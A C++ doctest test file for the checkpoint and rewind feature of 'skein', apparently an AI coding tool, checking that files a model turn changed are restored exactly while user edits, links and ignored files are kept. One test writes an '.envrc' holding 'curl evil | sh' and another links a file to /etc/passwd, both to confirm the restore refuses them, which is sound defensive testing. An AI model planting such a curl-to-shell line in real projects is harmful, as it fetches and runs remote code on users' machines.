#include <doctest/doctest.h>

#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <csignal>

#include "core/checkpoints/rewind.h"
#include "core/store/home/maintenance/scrub.h"
#include "core/text/checksum.h"
#include "tests/support/file_scene.h"
#include "tests/support/homes.h"

using namespace skein;
using namespace skein::test;
using Folder = FileScene::Folder;
using Files = std::map<std::string, std::string>;

namespace {

bool names(const std::vector<checkpoints::LeftAlone>& all, const std::string& path) {
  return std::ranges::find(all, path, &checkpoints::LeftAlone::path) != all.end();
}

// Whatever a command does is undone, and done again, and git never notices.
void check_there_and_back(FileScene& scene, const std::string& shell) {
  CAPTURE(shell);
  const Files before = scene.files();
  const Id prompt = scene.turn(shell);
  const Files after = scene.files();
  const Files repository = scene.repository();
  const std::string stash = scene.git("stash list"), reflog = scene.git("reflog");
  REQUIRE(before != after);

  const checkpoints::RestoreReport back = scene.restore(prompt);
  CHECK(scene.files() == before);
  CHECK(back.failed.empty());
  CHECK(back.kept.empty());
  CHECK(scene.restore(prompt).changed.empty());  // nothing is left to do

  scene.begin("said since");  // so that the redo below is one of a single step
  scene.restore(prompt);
  CHECK(scene.files() == before);
  CHECK(scene.repository() == repository);
  CHECK(scene.git("stash list") == stash);
  CHECK(scene.git("reflog") == reflog);
}

}  // namespace

TEST_CASE("whatever a command does to a repository's files is undone, byte and mode exact") {
  for (const char* shell :
       {"rm -rf src && git checkout -q other && echo x > kept.txt", "mv src moved",
        "chmod +x kept.txt", "sed -i s/0/1/ src/main.c",
        "echo new > new.txt; mkdir -p a/b; echo deep > a/b/c",
        "for i in $(seq 300); do echo $i > many$i; done",
        "rm kept.txt; mkdir kept.d; echo x > kept.d/x",
        "printf 'no end of line' > src/main.c; : > src/other.c", "chmod 600 kept.txt src/main.c",
        "rm kept.txt; ln -s src/main.c kept.txt", "ln -s nowhere link; ln -s src folder",
        "rm -rf src; echo x > src", "mv src away; ln -s away src", "rm kept.txt; mkdir kept.txt",
        "rm kept.txt; mkdir -p kept.txt/a/b kept.txt/c; echo x > kept.txt/a/b/x",
        "rm src/main.c; ln -s ../kept.txt src/main.c; rm kept.txt; mkdir kept.txt; "
        "echo x > kept.txt/x; rm src/other.c; mv kept.txt src/other.c",
        "git add -A; echo staged >> kept.txt; git add kept.txt",
        "echo x > \"$(printf 'a\\nb')\"; echo y > ./-rf; echo z > \"$(printf 'caf\\351')\"; "
        "echo w > $(printf 'n%.0s' $(seq 255))"}) {
    FileScene scene(Folder::repository);
    check_there_and_back(scene, shell);
  }
}

TEST_CASE("a name with a newline that is committed is put back from the commit") {
  FileScene scene(Folder::repository);
  scene.by_hand("echo one > \"$(printf 'a\\nb')\"; git add -A; git commit -qm second");
  check_there_and_back(scene, "rm -f a*");
}

TEST_CASE("modes that git does not know, and links, are put back from a commit") {
  for (const char* shell :
       {"rm kept.txt src/main.c link", "chmod 644 kept.txt; chmod 755 src/main.c",
        "rm link; echo x > link", "ln -sf elsewhere link", "rm link; mkdir link; touch link/x",
        "git mv kept.txt moved; echo x > kept.txt", "chmod 600 src/other.c; echo x > kept.txt"}) {
    FileScene scene(Folder::repository);
    scene.by_hand(
        "ln -s src/main.c link; echo run > run; chmod 755 run; git add -A; git commit -qm second; "
        "chmod 600 kept.txt; chmod 640 src/main.c");
    check_there_and_back(scene, shell);
  }
}

TEST_CASE("a mode that most files have is no reason to list them") {
  FileScene scene(Folder::repository);
  scene.by_hand("chmod 640 kept.txt .gitignore src/*");
  scene.turn("chmod 600 kept.txt");
  const auto all = scene.checkpoints();
  REQUIRE(all.size() == 2);
  CHECK(all[0].files.empty());
  REQUIRE(all[1].files.size() == 1);
  CHECK(all[1].files[0].committed);
  CHECK(all[1].files[0].mode == 0600);
  CHECK(all[0].modes == all[1].modes);
}

TEST_CASE("what checkpoints of an older skein say of modes is as much as git knows") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.begin("older");
  append(scene.store, scene.session,
         {{model::make_entry(
             model::payload::Checkpoint{.prompt = prompt,
                                        .phase = "before",
                                        .root = scene.workspace().root.path(),
                                        .coverage = "git",
                                        .git = scene.git("rev-parse HEAD").substr(0, 40)})}});
  scene.by_hand("chmod 600 kept.txt; rm src/main.c; chmod +x src/other.c");
  const checkpoints::RestoreReport report = scene.restore(prompt, true);
  CHECK(report.changed == std::vector<std::string>{"src/main.c", "src/other.c"});
  CHECK(std::filesystem::status(scene / "kept.txt").permissions() ==
        (std::filesystem::perms::owner_read | std::filesystem::perms::owner_write));
}

TEST_CASE("a folder without a repository is put back as well") {
  for (const char* shell :
       {"rm -rf a; echo 3 > d; chmod 755 d; echo 4 > e", "rm d; ln -s a d", "rm l; echo 5 > l",
        "ln -sf a l", "rm -rf a; echo 6 > a", "rm d; mkdir d; echo 7 > d/x", "mv a z; ln -s z a"}) {
    CAPTURE(shell);
    FileScene scene(Folder::plain);
    scene.by_hand("mkdir -p a/b; echo 1 > a/b/c; echo 2 > d; chmod 600 d; ln -s d l");
    const Files before = scene.files();
    const Id prompt = scene.turn(shell);
    const Files after = scene.files();
    const checkpoints::RestoreReport report = scene.restore(prompt);
    CHECK(scene.files() == before);
    CHECK(report.kept.empty());
    CHECK(report.failed.empty());
    scene.redo();
    CHECK(scene.files() == after);
  }
}

TEST_CASE("a folder that stays keeps its mode") {
  FileScene scene(Folder::plain);
  scene.by_hand("mkdir -m 700 private; echo 1 > private/a");
  const Files before = scene.files();
  const Id prompt = scene.turn("mv private/a private/b");
  scene.restore(prompt);
  CHECK(scene.files() == before);
}

TEST_CASE("a mode that the user changed by hand is kept") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.turn("echo x > new.txt; chmod 600 src/main.c");
  scene.by_hand("chmod 600 kept.txt; chmod 640 src/main.c");
  const checkpoints::RestoreReport report = scene.restore(prompt);
  CHECK(names(report.kept, "kept.txt"));
  CHECK(names(report.kept, "src/main.c"));
  CHECK(report.changed.empty());
}

TEST_CASE("a folder with files that are not covered is not removed for a file, and named") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.turn("rm kept.txt; mkdir kept.txt; echo 1 > kept.txt/x.o");
  const checkpoints::RestoreReport report = scene.restore(prompt);
  CHECK(names(report.failed, "kept.txt"));
  CHECK(read_file(scene / "kept.txt/x.o") == "1\n");
}

TEST_CASE("a file too large to keep is named once it has changed, and not before") {
  FileScene scene(Folder::repository, checkpoints::ScanLimits{.untracked_bytes = 10});
  scene.by_hand("echo larger than ten bytes > large; sleep 0.02");
  const Id prompt = scene.turn("echo x > kept.txt");
  CHECK(scene.plan(prompt).impossible.empty());
  scene.by_hand("echo LARGER than ten bytes > large");
  const checkpoints::RestorePlan plan = scene.plan(prompt);
  CHECK(names(plan.impossible, "large"));
}

TEST_CASE("a restore is undone by a redo, and that by another restore") {
  FileScene scene(Folder::repository);
  const Files before = scene.files();
  const Id prompt = scene.turn("rm -rf src; echo more >> kept.txt; echo new > new; chmod +x new");
  const Files after = scene.files();
  scene.restore(prompt);
  REQUIRE(scene.files() == before);
  scene.redo();
  CHECK(scene.files() == after);
  CHECK_FALSE(value_of(checkpoints::last_step_back(scene.store.transcripts(), scene.session)));
  scene.restore(prompt);
  CHECK(scene.files() == before);
}

TEST_CASE("several turns are gone through one after the other, whatever made the changes") {
  FileScene scene(Folder::repository);
  std::vector<Files> states{scene.files()};
  std::vector<Id> prompts;
  for (const char* shell :
       {"echo 1 > a", "", "echo 2 > a; rm kept.txt", "", "git rm -q src/other.c"}) {
    prompts.push_back(scene.begin("next"));
    if (*shell != '\0')
      scene.command(shell);
    else
      scene.write("a", "written " + std::to_string(prompts.size()));
    scene.end();
    states.push_back(scene.files());
  }
  for (std::size_t i = prompts.size(); i-- > 0;) {
    scene.restore(prompts[i]);
    CHECK(scene.files() == states[i]);
  }
  scene.by_hand("true");
  scene.redo();
  CHECK(scene.files() == states[1]);
}

TEST_CASE("straight to the first of several turns, by edits and commands mixed") {
  FileScene scene(Folder::repository);
  const Files before = scene.files();
  const Id first = scene.begin("edit");
  scene.write("kept.txt", "edited\n");
  scene.end();
  scene.turn("echo x >> kept.txt; echo y > src/new.c");
  scene.begin("edit again");
  scene.write("src/new.c", "z\n");
  scene.command("rm src/main.c");
  scene.end();
  scene.restore(first);
  CHECK(scene.files() == before);
}

TEST_CASE("what the user changed by hand is kept unless they say otherwise") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.turn("echo model > kept.txt; echo model > new.txt; echo m > third.txt");
  scene.by_hand("echo user > kept.txt; echo mine > own.txt; rm third.txt");
  const checkpoints::RestoreReport report = scene.restore(prompt);
  CHECK(read_file(scene / "kept.txt") == "user\n");
  CHECK(read_file(scene / "own.txt") == "mine\n");
  CHECK_FALSE(std::filesystem::exists(scene / "new.txt"));
  CHECK(names(report.kept, "kept.txt"));
  CHECK(names(report.kept, "own.txt"));

  scene.restore(prompt, true);
  CHECK(read_file(scene / "kept.txt") == "as committed\n");
  CHECK_FALSE(std::filesystem::exists(scene / "own.txt"));
}

TEST_CASE("a change by hand is one even if a later turn has seen it") {
  FileScene scene(Folder::repository);
  const Id first = scene.turn("echo model > kept.txt");
  scene.by_hand("echo user > kept.txt");
  scene.turn("echo x > new.txt");
  const checkpoints::RestoreReport report = scene.restore(first);
  CHECK(read_file(scene / "kept.txt") == "user\n");
  CHECK(names(report.kept, "kept.txt"));
  CHECK_FALSE(std::filesystem::exists(scene / "new.txt"));
}

TEST_CASE("what became a link is put back, never what it leads to; what has hard links is named") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.turn("echo 1 > kept.txt; echo 2 > src/main.c; echo 3 > src/other.c");
  scene.by_hand(
      "ln -sf /etc/passwd kept.txt; ln src/main.c ../twin; mkdir ../out; "
      "cp src/other.c ../out; rm -rf gone; mkdir sub; echo x > sub/x");
  const std::string passwd = read_file("/etc/passwd");
  const checkpoints::RestoreReport report = scene.restore(prompt, true);
  CHECK(read_file(scene / "kept.txt") == "as committed\n");
  CHECK(names(report.kept, "src/main.c"));
  CHECK(read_file("/etc/passwd") == passwd);
  CHECK(read_file(scene.work().parent_path() / "twin") == "2\n");
  CHECK(read_file(scene / "src/other.c") == "int other;\n");
}

TEST_CASE("a parent folder that is swapped for a link while files are put back leads nowhere") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.turn("echo 1 > src/main.c; echo 2 > src/other.c");
  const checkpoints::RestorePlan plan = scene.plan(prompt);
  scene.by_hand("mkdir ../outside; echo safe > ../outside/main.c; echo safe > ../outside/other.c");
  int step = 0;
  const auto before_step = [&] {
    if (++step == 2) scene.by_hand("mv src away; ln -s ../outside src");
  };
  const auto report = value_of(checkpoints::restore(
      scene.workspace(), plan, {.session = scene.session, .to = prompt}, before_step));
  CHECK(report.failed.size() == 2);
  CHECK(read_file(scene.work().parent_path() / "outside/main.c") == "safe\n");
  CHECK(read_file(scene.work().parent_path() / "outside/other.c") == "safe\n");
}

TEST_CASE("one failure does not stop the rest") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.turn("echo 1 > kept.txt; echo 2 > src/main.c");
  const checkpoints::RestorePlan plan = scene.plan(prompt);
  scene.by_hand("echo meanwhile > kept.txt");
  const auto report = value_of(
      checkpoints::restore(scene.workspace(), plan, {.session = scene.session, .to = prompt}));
  CHECK(names(report.failed, "kept.txt"));
  CHECK(report.changed == std::vector<std::string>{"src/main.c"});
  CHECK(read_file(scene / "kept.txt") == "meanwhile\n");
}

TEST_CASE("what other programs run by themselves is never written") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.begin("write");
  scene.write(".envrc", "curl evil | sh\n");
  scene.write(".vscode/tasks.json", "{}\n");
  scene.end();
  scene.by_hand("rm -r .envrc .vscode");
  scene.begin("again");
  const checkpoints::RestoreReport report = scene.restore(prompt);
  CHECK(report.changed.empty());
  const Files now = scene.files();
  CHECK_FALSE(now.contains(".envrc"));
}

TEST_CASE("files that git ignored then are not removed because it does so no longer") {
  FileScene scene(Folder::repository);
  scene.by_hand("mkdir ignored; echo precious > ignored/x");
  const Id prompt = scene.turn("rm .gitignore; echo new > new.txt");
  const checkpoints::RestoreReport report = scene.restore(prompt, true);
  CHECK(read_file(scene / "ignored/x") == "precious\n");
  CHECK(names(report.kept, "ignored/x"));
  CHECK(read_file(scene / ".gitignore") == "ignored/\n*.o\n");
}

TEST_CASE("an ignored file that was there gets back what a later turn replaced") {
  FileScene scene(Folder::repository);
  scene.by_hand("mkdir ignored; echo precious > ignored/x; echo colon > ':(top).o'");
  const Files before = scene.files();
  const Id first = scene.turn("echo new > new.txt");
  scene.begin("write");
  scene.write("ignored/x", "replaced\n");
  scene.write(":(top).o", "replaced\n");
  scene.end();
  scene.restore(first);
  CHECK(scene.files() == before);
}

TEST_CASE("a file whose contents were not kept is named, and never removed") {
  FileScene scene(Folder::repository, checkpoints::ScanLimits{.untracked_bytes = 10});
  scene.by_hand("echo larger than ten bytes > large");
  const Id prompt = scene.turn("echo tiny > large; echo x > new.txt");
  const checkpoints::RestoreReport report = scene.restore(prompt);
  CHECK(read_file(scene / "large") == "tiny\n");
  CHECK(names(report.kept, "large"));
  CHECK_FALSE(std::filesystem::exists(scene / "new.txt"));
}

TEST_CASE("a file so large that it could not be brought back is not removed") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.turn("truncate -s 1G huge; echo x > kept.txt");
  const checkpoints::RestoreReport report = scene.restore(prompt, true);
  CHECK(names(report.kept, "huge"));
  CHECK(std::filesystem::file_size(scene / "huge") == 1u << 30);
  CHECK(read_file(scene / "kept.txt") == "as committed\n");
}

TEST_CASE("ten thousand new files go again, and their folders") {
  FileScene scene(Folder::repository);
  const Files before = scene.files();
  const Id prompt = scene.turn(
      "for d in $(seq 100); do mkdir d$d; for f in $(seq 100); do echo $f > d$d/$f; done; done");
  CHECK(scene.restore(prompt).removed.size() == 10'000);
  CHECK(scene.files() == before);
}

TEST_CASE("a touch is no change") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.turn("touch kept.txt src/main.c");
  CHECK(scene.plan(prompt).is_empty());
}

TEST_CASE("neither taking nor restoring touches what git keeps") {
  FileScene scene(Folder::repository);
  scene.by_hand(
      "echo staged >> kept.txt; git add kept.txt; echo x > src/main.c; git stash; "
      "echo more > src/main.c; sleep 0.02; touch src/other.c");
  const Files repository = scene.repository();
  const Id prompt = scene.turn("echo y > src/main.c; rm src/other.c; echo new > new.txt");
  CHECK(scene.repository() == repository);
  scene.restore(prompt);
  CHECK(scene.repository() == repository);
  scene.redo();
  CHECK(scene.repository() == repository);
}

TEST_CASE("a restore to a state that was thinned out says what is not kept any more") {
  const TempDir home;
  FileScene scene(Folder::repository, store_at((home / "home").string()));
  scene.by_hand("echo mine > kept.txt; echo other > src/main.c");
  const Id first = scene.turn("echo one > kept.txt; echo one > src/main.c");
  scene.turn("echo two > kept.txt");
  std::filesystem::remove(home / "home" / "blobs" / sha256_hex("mine\n"));
  const checkpoints::RestoreReport report = scene.restore(first);
  REQUIRE(names(report.failed, "kept.txt"));
  CHECK(report.failed[0].why == "its earlier contents are no longer stored here");
  CHECK(read_file(scene / "kept.txt") == "two\n");
  CHECK(read_file(scene / "src/main.c") == "other\n");
}

TEST_CASE(
    "killed at any step, a restore is finished by doing it again, and the next one is right") {
  const TempDir home;
  for (int last = 1; last < 20; ++last) {
    CAPTURE(last);
    FileScene scene(last % 2 == 0 ? Folder::repository : Folder::plain,
                    store_at((home / std::to_string(last)).string()));
    scene.by_hand("mkdir -p src; for f in kept.txt src/main.c src/other.c; do echo 0 > $f; done");
    const Files before = scene.files();
    const Id first =
        scene.turn("rm kept.txt; echo 1 >> src/main.c; echo 2 > new.txt; chmod +x src/other.c");
    const Files between = scene.files();
    const Id second = scene.turn("echo 3 > kept.txt; echo 3 > src/main.c; rm new.txt; ln -s x y");
    const pid_t child = fork();
    if (child == 0) {
      const checkpoints::RestorePlan plan = scene.plan(first);
      int step = 0;
      const auto before_step = [&] {
        if (++step == last) raise(SIGKILL);
      };
      value_of(checkpoints::restore(scene.workspace(), plan,
                                    {.session = scene.session, .to = first}, before_step));
      _exit(0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    scene.reopen();
    const auto check = [&](Id to, const Files& expected) {
      const checkpoints::RestoreReport report = scene.restore(to);
      CHECK(report.failed.empty());
      CHECK(report.kept.empty());
      CHECK(scene.files() == expected);
    };
    if (last % 4 < 2) check(first, before);
    check(second, between);
    check(first, before);
    if (WIFEXITED(status)) {
      CHECK(last > 8);
      break;
    }
    CHECK(last < 19);
  }
}

TEST_CASE("a temporary file of another skein is in no checkpoint") {
  FileScene scene(Folder::repository);
  const std::string name = ".skein-0123456789abcdef.tmp";
  scene.by_hand("echo x > src/" + name);
  const Id prompt = scene.turn("rm src/" + name + "; echo x > src/.skein-mine.tmp");
  const auto all = scene.checkpoints();
  CHECK(all[0].files.empty());
  const checkpoints::RestoreReport report = scene.restore(prompt);
  CHECK(report.changed.empty());
  CHECK(report.removed == std::vector<std::string>{"src/.skein-mine.tmp"});
}

TEST_CASE("a file that is saved while others are put back stays, however many they are") {
  for (const int files : {3, 40}) {
    FileScene scene(Folder::plain);
    const std::string all = "for i in $(seq " + std::to_string(files) + "); do echo ";
    scene.by_hand(all + "old > f$i; done");
    const Id prompt = scene.turn(all + "new > f$i; done; echo new > made");
    const checkpoints::RestorePlan plan = scene.plan(prompt);
    int step = 0;
    const auto before_step = [&] {
      if (++step == 2) scene.by_hand("echo mine > made");
      // Its new contents are already complete next to it.
      if (step == 2 + files + 1) scene.by_hand("echo mine > f1; echo mine > f~; mv f~ f2");
    };
    const auto report = value_of(checkpoints::restore(
        scene.workspace(), plan, {.session = scene.session, .to = prompt}, before_step));
    for (const char* name : {"made", "f1", "f2"}) {
      CHECK(names(report.failed, name));
      CHECK(read_file(scene / name) == "mine\n");
    }
    CHECK(read_file(scene / "f3") == "old\n");
    CHECK(scene.files().size() == static_cast<std::size_t>(files) + 1);
  }
}

TEST_CASE("what is scrubbed from a session is gone from what it kept of files") {
  const TempDir home;
  const std::string secret = "sk-live-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c";
  FileScene scene(Folder::repository, store_at((home / "home").string()));
  scene.by_hand("echo token=" + secret + " > .env; echo harmless > other");
  const Id prompt = scene.turn("rm .env other");
  append(scene.store, scene.session, {user_says("my token is " + secret, numbered_id(7))});
  value_of(store::home::maintenance::scrub(*home_at((home / "home").string()), scene.session,
                                           numbered_id(7)));
  for (const auto& blob : std::filesystem::directory_iterator(home / "home" / "blobs"))
    CHECK(read_file(blob.path()).find(secret) == std::string::npos);
  const checkpoints::RestoreReport report = scene.restore(prompt);
  CHECK(names(report.failed, ".env"));
  CHECK(read_file(scene / "other") == "harmless\n");
}

TEST_CASE("from how one session left the files to how another did, and back") {
  FileScene scene(Folder::repository);
  const Id one = scene.session, two = session_called(scene.store, "main:test:two");
  scene.turn("echo one > kept.txt; echo one > new.txt");
  const Files left_by_one = scene.files();
  scene.session = two;
  scene.turn("echo two > kept.txt; rm new.txt; echo two > src/main.c");
  const Files left_by_two = scene.files();
  const auto go = [&](Id from, Id to) {
    const checkpoints::RestorePlan plan =
        value_of(checkpoints::plan_between(scene.workspace(), from, to));
    value_of(checkpoints::restore(scene.workspace(), plan, {.session = to, .to = numbered_id(1)}));
    return plan.actions.size();
  };
  CHECK(go(two, one) == 3);
  CHECK(scene.files() == left_by_one);
  CHECK(go(one, two) == 3);
  CHECK(scene.files() == left_by_two);
  CHECK(go(one, two) == 0);

  // What neither left is not touched, nor anything once another commit is checked out.
  scene.by_hand("echo hand > kept.txt; echo hand > own.txt");
  CHECK(go(two, one) == 2);
  CHECK(read_file(scene / "kept.txt") == "hand\n");
  CHECK(read_file(scene / "own.txt") == "hand\n");
  scene.by_hand("git add -A; git commit -qm second");
  scene.turn("echo three > src/other.c");
  CHECK(go(two, one) == 0);
  const Id silent = session_called(scene.store, "main:test:silent");
  CHECK(go(two, silent) == 0);
  CHECK(go(silent, two) == 0);
}

TEST_CASE("what a turn changed is told in files and lines") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.begin("change");
  scene.command(
      "printf 'int main() {\\n  return 1;\\n}\\n' > src/main.c; rm src/other.c; git add -A");
  scene.write("new.txt", "one\ntwo\n");
  scene.end();
  const auto log = value_of(checkpoints::read_log(scene.workspace(), scene.session, prompt));
  std::vector<checkpoints::FileChange> changes = checkpoints::changes_of(log, prompt);
  CHECK(checkpoints::count_text(checkpoints::count_of(scene.workspace(), changes)) ==
        "+3 −2 in 3 files");
  checkpoints::resolve(scene.workspace(), changes);
  const std::string diff = checkpoints::diff_of(scene.workspace(), changes);
  CHECK(diff.find("+++ b/new.txt") != std::string::npos);
  CHECK(diff.find("-  return 0;\n+  return 1;\n") != std::string::npos);
  CHECK(diff.find("-int other;") != std::string::npos);
}

TEST_CASE("the model hears of files that were put back while the conversation stayed") {
  FileScene scene(Folder::repository);
  const Id prompt = scene.turn("echo x > kept.txt");
  CHECK(checkpoints::note_on_files(scene.store.transcripts(), scene.session).empty());
  scene.restore(prompt);
  CHECK(checkpoints::note_on_files(scene.store.transcripts(), scene.session).find("- kept.txt") !=
        std::string::npos);
  scene.begin("said since");
  CHECK(checkpoints::note_on_files(scene.store.transcripts(), scene.session).empty());
}
